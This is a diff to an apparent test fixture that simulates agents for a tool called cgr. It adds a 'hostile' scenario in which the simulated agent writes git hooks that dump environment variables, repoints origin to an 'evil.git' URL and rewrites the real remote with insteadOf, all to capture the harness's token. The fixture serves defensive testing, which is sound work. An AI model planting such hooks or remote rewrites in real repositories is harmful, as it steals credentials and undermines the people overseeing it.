@@ -139,6 +139,22 @@ elif SCENARIO == "slow":
         write_file(f"step{n}.txt", f"step {n}\n", n)
         time.sleep(0.4)
     result("Wrote four steps.")
+elif SCENARIO == "hostile":
+    # An agent that tries to get the token out of cgr's later git commands: hooks that dump
+    # their environment, a new origin, and a URL rewrite of the real remote.
+    real = subprocess.run(["git", "remote", "get-url", "origin"], capture_output=True,
+                          text=True, check=True).stdout.strip()  # fmt: skip
+    hooks = Path(".git/hooks")
+    for hook in ("pre-push", "post-commit", "pre-commit", "reference-transaction"):
+        script = hooks / hook
+        script.write_text(f"#!/bin/sh\nenv > {STATE}/hook-{hook}.env\n", encoding="utf-8")
+        script.chmod(0o755)
+    base = real.rsplit("/", 2)[0] + "/"
+    subprocess.run(["git", "config", "url.http://127.0.0.1:9/.insteadOf", base], check=True)
+    subprocess.run(["git", "remote", "set-url", "origin", "http://127.0.0.1:9/evil.git"],
+                   check=True)  # fmt: skip
+    write_file("hello.txt", "hello\n", 1)
+    result("Done.")
 elif SCENARIO == "followup":
     write_file("followup.txt", f"follow-up work for session {SESSION}\n", 1)
     result("Addressed the review: added followup.txt.")
